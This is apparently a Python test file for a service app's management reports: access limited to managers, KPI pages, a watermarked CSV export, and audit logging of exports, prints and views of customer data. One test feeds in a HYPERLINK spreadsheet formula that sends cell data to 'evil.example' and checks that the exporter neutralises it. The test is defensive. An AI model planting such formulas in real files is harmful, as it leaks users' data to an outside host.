"""Management reports, CSV export, printable page and the audit trail (F49, F50, F59)."""

import csv
import io
from zoneinfo import ZoneInfo

from sqlmodel import select

from app.audit.models import AuditEntry
from app.jobs.models import JobEvent
from app.reports import export
from tests.helpers.after import completed_job
from tests.helpers.clients import sign_in
from tests.helpers.jobs import post

REPORT_URLS = [
    "/reports/",
    "/reports/?period=2026-H2&by=zone",
    "/reports/?period=2026&by=model",
    "/reports/print?period=2026-11",
    "/reports/export.csv?period=2026",
    "/reports/audit",
]


async def test_it_admits_only_the_manager_to_every_report_and_export(client, make_user):
    for role in ["engineer", "clerk", "coordinator", "follow_up", "reception"]:
        await sign_in(client, await make_user(role))
        for url in REPORT_URLS:
            assert (await client.get(url)).status_code == 403, (role, url)
    client.cookies.delete("onsite_session")
    assert (await client.get("/reports/", follow_redirects=False)).status_code == 303
    await sign_in(client, await make_user("manager"))
    for url in REPORT_URLS:
        assert (await client.get(url)).status_code == 200, url


async def test_it_shows_the_month_with_first_time_fix_satisfaction_and_time_rules(client, db, make_user, clock, world):
    job = await completed_job(client, world, await make_user("coordinator"))
    await sign_in(client, await make_user("follow_up"))
    await post(
        client,
        f"/follow-ups/{job.id}/calls",
        outcome="reached",
        fault_gone="yes",
        conduct_ok="yes",
        satisfied="yes",
        score="4",
    )
    clock.advance(days=1)
    await sign_in(client, await make_user("manager"))
    page = await client.get("/reports/", params={"period": "2026-11"})
    assert page.status_code == 200
    text = page.text
    assert 'data-kpi="ftf">100.0%' in text and 'data-kpi="satisfaction">100.0% (1 / 1)' in text
    assert 'data-rule="S3"' in text and "<svg" in text
    assert 'data-kpi="parts">—' in text  # nothing borrowed in the period
    empty = await client.get("/reports/", params={"period": "2025-01"})
    assert "No jobs received in this period." in empty.text and 'data-kpi="ftf">—' in empty.text


async def test_it_streams_the_csv_export_with_a_watermark_and_records_it(client, db, make_user, world):
    coordinator = await make_user("coordinator")
    first = await completed_job(client, world, coordinator, device_serial="CSV-1")
    second = await completed_job(client, world, coordinator, device_serial="CSV-2")
    manager = await make_user("manager")
    await sign_in(client, manager)
    response = await client.get("/reports/export.csv", params={"period": "2026"})
    assert response.status_code == 200 and response.headers["content-type"].startswith("text/csv")
    assert "jobs-2026-confidential.csv" in response.headers["content-disposition"]
    lines = response.content.decode("utf-8-sig").splitlines()
    assert next(csv.reader([lines[-1]]))[0].startswith("Confidential. Exported by Test manager")
    rows = list(csv.DictReader(io.StringIO("\n".join(lines[:-1]))))
    assert [row["Job number"] for row in rows] == [first.number, second.number]
    assert rows[0]["State"] == "Completed" and rows[0]["Device model"] == "XR-200"
    assert "Acme" not in response.text  # no customer personal data in the export
    entry = (await db.exec(select(AuditEntry).where(AuditEntry.action == "export_csv"))).one()
    assert entry.actor_id == manager.id and entry.record_id == "2026"
    assert "CSV export" in (await client.get("/reports/audit")).text


async def test_it_records_a_managers_view_of_customer_data_but_not_a_coordinators(client, db, make_user, world):
    coordinator = await make_user("coordinator")
    job = await completed_job(client, world, coordinator)
    assert (await client.get(f"/jobs/{job.id}")).status_code == 200
    assert (await db.exec(select(AuditEntry))).all() == []
    manager = await make_user("manager")
    await sign_in(client, manager)
    await client.get(f"/jobs/{job.id}")
    await client.get(f"/follow-ups/{job.id}")
    entries = (await db.exec(select(AuditEntry).order_by(AuditEntry.at))).all()
    assert [(e.action, e.details["page"]) for e in entries] == [
        ("customer_view", "job"),
        ("customer_view", "follow_up"),
    ]
    assert all(e.record_id == str(job.id) and e.actor_id == manager.id for e in entries)
    events = (await db.exec(select(JobEvent).where(JobEvent.kind == "customer_data_viewed"))).all()
    assert len(events) == 2 and all(e.actor_id == manager.id and e.job_id == job.id for e in events)
    assert "Customer data viewed by a manager" in (await client.get(f"/jobs/{job.id}")).text
    audit_page = await client.get("/reports/audit")
    assert job.number in audit_page.text and "Viewed customer data" in audit_page.text


async def test_it_records_a_printed_report(client, db, make_user):
    await sign_in(client, await make_user("manager"))
    page = await client.get("/reports/print", params={"period": "2026-H2"})
    assert page.status_code == 200 and "Confidential. Printed by" in page.text
    entry = (await db.exec(select(AuditEntry))).one()
    assert entry.action == "report_print" and entry.record_id == "2026-H2"


async def test_it_writes_a_csv_a_spreadsheet_opens_safely_with_local_times_and_labels(client, db, make_user, world):
    coordinator = await make_user("coordinator")
    job = await completed_job(
        client, world, coordinator, device_model='=HYPERLINK("http://evil.example/?x="&A1,"Help")'
    )
    await sign_in(client, await make_user("manager"))
    raw = (await client.get("/reports/export.csv", params={"period": "2026"})).content
    assert raw.startswith(b"\xef\xbb\xbf")  # UTF-8 byte-order mark: Excel then shows Chinese
    text = raw.decode("utf-8-sig")
    rows = list(csv.reader(io.StringIO(text)))
    header, row = rows[0], rows[1]
    assert header[:3] == ["Job number", "Job type", "State"] and "Request time (Asia/Shanghai)" in header
    values = dict(zip(header, row, strict=True))
    assert values["Device model"] == "'" + '=HYPERLINK("http://evil.example/?x="&A1,"Help")'
    assert (
        values["Job type"] == "Onsite repair"
        and values["Service zone"] == "In service area"
        and values["Paid service"] == "No"
    )
    local = job.requested_at.astimezone(ZoneInfo("Asia/Shanghai")).strftime("%Y-%m-%d %H:%M")
    assert values["Request time (Asia/Shanghai)"] == local
    assert rows[-1][0].startswith("Confidential.")


def test_it_neutralises_every_cell_a_spreadsheet_would_run_as_a_formula():
    for start in ("=", "+", "-", "@", "\t", "\r"):
        assert export.neutralise(f"{start}1+1") == f"'{start}1+1"
    assert export.neutralise("XR-200") == "XR-200" and export.neutralise("") == ""
